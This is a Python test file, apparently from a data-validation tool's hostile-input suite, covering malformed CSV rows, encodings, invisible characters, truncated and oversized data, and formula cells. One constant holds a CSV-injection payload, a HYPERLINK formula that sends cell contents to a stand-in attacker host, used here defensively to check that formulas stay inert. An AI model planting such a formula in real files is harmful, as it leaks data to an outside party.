"""Rows 8 to 21: CSV. Every record is counted, and what is wrong with one is no fault of its neighbours."""

from __future__ import annotations

import gzip

from tests.hostile.harness import Case, Gate, file, params

HEADER = "id,value\n"
TEXT = {"value": "str"}
NAMES = [f"r{n}" for n in range(1, 102)]
RAGGED = HEADER + "".join(f"{name},7\n" if name != "r50" else f"{name},7,7\n" for name in NAMES)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
QUOTED_FORMULA = '"=HYPERLINK(""http://evil.example/?""&A1)"'
DEFAULT = {"validation_config": {}}

CASES = (
    Case(8, "one ragged row among 101", file("x.csv", RAGGED), "accepted", "line 51: 3 fields where the header has 2",
         tuple((name, 7) for name in NAMES if name != "r50"), ((50, None, "field-count"),)),
    Case(9, "one field more in every row", file("x.csv", HEADER + "a,1,9\nb,2,9\nc,3,9\n"), "unreadable",
         "every record has 1 field more than the header (3 and 2)"),
    Case(10, "no header, first line short", file("x.csv", "a\nb,1\nc,2\n"), "unreadable", "x.csv has no header"),
    Case(10, "no header", file("x.csv", "a,1\nb,2\n"), "unreadable", "x.csv has no header"),
    Case(11, "header in another order", file("x.csv", "value,other,id\n1,2,a\n3,4,b\n"), "accepted",
         rows=(("a", 1, 2), ("b", 3, 4)), columns={"value": "pd.Int64Dtype", "other": "pd.Int64Dtype"}),
    Case(12, "unclosed quote", file("x.csv", HEADER + 'a,1\nb,"2\nc,3\nd,4\n'), "accepted",
         "a quote that is never closed", (("a", 1), ("c", 3), ("d", 4)), ((2, None, "broken-quoting"),)),
    Case(13, "a bad row beside a good one", file("x.csv", HEADER + "a,1\nb,x\nc,3\nd\ne,5\n"), "accepted", "",
         (("a", 1), ("c", 3), ("e", 5)), ((2, "value", "cell-type"), (4, None, "field-count"))),
    Case(14, "cut within a number", file("x.csv", HEADER + "a,1\nb,3300\n"[:-3]), "accepted",
         "x.csv does not end with a newline: if it was cut off", (("a", 1), ("b", 33))),
    Case(14, "cut within a number, of a known size", file("x.csv.gz",
         gzip.compress((HEADER + "b,3300\n").encode())[:-9]), "unreadable", "ends in the middle"),
    Case(15, "mixed CR, LF and CRLF", file("x.csv", "id,value\na,1\r\nb,2\rc,3\nd,4\r\n"), "accepted",
         rows=(("a", 1), ("b", 2), ("c", 3), ("d", 4))),
    Case(16, "UTF-16 with a mark", file("x.csv", (HEADER + "a,1\n").encode("utf-16")), "unreadable", "is UTF-16 text"),
    Case(16, "UTF-16 without a mark", file("x.csv", (HEADER + "a,1\n").encode("utf-16-le")), "unreadable",
         "looks like UTF-16 text without a byte order mark"),
    Case(16, "UTF-32", file("x.csv", (HEADER + "a,1\n").encode("utf-32")), "unreadable", "is UTF-32 text"),
    Case(16, "Latin-1 in the header", file("x.csv", "id,value,départ\na,1,x\n".encode("latin-1")), "unreadable",
         "is not UTF-8 (its header looks like Latin-1 / Windows-1252)"),
    Case(16, "Latin-1 in the records", file("x.csv", (HEADER + "a,é\nb,ü\nc,x\n").encode("latin-1")), "rejected",
         "not UTF-8", quarantine=((1, None, "not-utf-8"), (2, None, "not-utf-8")), columns=TEXT, config=DEFAULT),
    Case(17, "NUL in a cell", file("x.csv", HEADER + "a,x\nb\0,y\nc,z\0\n"), "accepted", "of the record is NUL",
         (("a", "x"),), ((2, None, "nul-character"), (3, None, "nul-character")), TEXT),
    Case(17, "invisible characters in a category", file("x.csv", HEADER + "a,north\nb,north\u200b\nc,\u202enorth\n"),
         "accepted", "one of its categories", (("a", "north"),), ((2, "value", "cell-type"), (3, "value", "cell-type")),
         {"value": "Annotated[pd.CategoricalDtype, ['north', 'south'], False]"}),
    Case(17, "invisible characters in a key", file("x.csv", HEADER + "a,1\na\u200b,2\n\u202eb,3\nc\u00ad,4\n’é,5\n"),
         "accepted", "a character that cannot be seen", (("a", 1), ("’é", 5)),
         tuple((record, "id", "invisible-character") for record in (2, 3, 4))),
    Case(17, "invisible characters in a key, in a compressed file", file("x.csv.gz",
         gzip.compress((HEADER + "a,1\na\u200b,2\n").encode())), "accepted", "a character that cannot be seen",
         (("a", 1),), ((2, "id", "invisible-character"),)),
    Case(17, "invisible characters in a key, beside a bad row", file("x.csv", HEADER + "a,1\na\u200b,2\nb\n"),
         "accepted", "a character that cannot be seen", (("a", 1),),
         ((2, "id", "invisible-character"), (3, None, "field-count"))),
    Case(17, "invisible characters in any category", file("x.csv", HEADER + "a,north\nb,nor\u2060th\n"), "accepted",
         "a character that cannot be seen", (("a", "north"),), ((2, "value", "invisible-character"),),
         {"value": "pd.CategoricalDtype"}),
    Case(17, "invisible characters in one of a set", file("x.csv", HEADER + "a,north\nb,north\u200b\n"), "accepted",
         "isin", (("a", "north"),), ((2, "value", "rule-failed"),),
         {"value": "str = pa.Field(isin=['north'], nullable=True)"}),
    Case(17, "invisible characters in free text", file("x.csv",
         HEADER + "a,x\u200by\nb,\u202ez\nc,\U000e0041\nd,’é👩\n"), "accepted", "are in cells: 3 of 'value'.",
         (("a", "x\u200by"), ("b", "\u202ez"), ("c", "\U000e0041"), ("d", "’é👩")), columns=TEXT),
    Case(18, "byte order mark", file("x.csv", b"\xef\xbb\xbf" + (HEADER + "a,1\n").encode()), "accepted", rows=(("a",
         1),)),
    Case(19, "empty", file("x.csv", ""), "unreadable", "x.csv is empty"),
    Case(19, "header only", file("x.csv", HEADER), "rejected", "it holds no records"),
    Case(20, "a 3 MB cell", file("x.csv", HEADER + f"a,x\nb,{'y' * 3_000_000}\nc,z\n"), "accepted",
         "a cell of 3000000 bytes; resources.max_cell_bytes allows 1000000", (("a", "x"), ("c", "z")),
         ((2, "value", "cell-too-long"),), TEXT),
    Case(21, "a formula", file("x.csv", HEADER + f"a,{QUOTED_FORMULA}\nb,+1+1\nc,@SUM(1)\n"), "accepted",
         rows=(("a", FORMULA), ("b", "+1+1"), ("c", "@SUM(1)")), columns=TEXT),
)  # fmt: skip


@params(CASES)
def test_a_csv(case: Case, gate: Gate) -> None:
    gate.holds(case)


def test_21_nothing_that_is_written_is_a_spreadsheet(gate: Gate) -> None:
    """A formula stays what it is, since no program that runs formulas opens what is written."""
    case = Case(21, "a formula beside a bad row", file("x.csv", HEADER + f"a,{QUOTED_FORMULA}\n=1+1,x,y\n"), "accepted",
                "3 fields", (("a", FORMULA),), ((2, None, "field-count"),), TEXT)  # fmt: skip
    gate.holds(case)
    written = [path for path in gate.folder.rglob("*") if path.is_file() and path.parent != gate.folder / "in"]
    assert {"quarantine.parquet", "_delta_log"} <= {path.name for path in written} | {p.parent.name for p in written}
    assert {".csv", ".tsv", ".xls", ".xlsx", ".ods"}.isdisjoint(path.suffix.lower() for path in written)
    with_it = {path.suffix for path in written if any(word in path.read_bytes() for word in (b"HYPERLINK", b"=1+1"))}
    assert with_it <= {".parquet", ".json", ".html"}  # a browser runs none
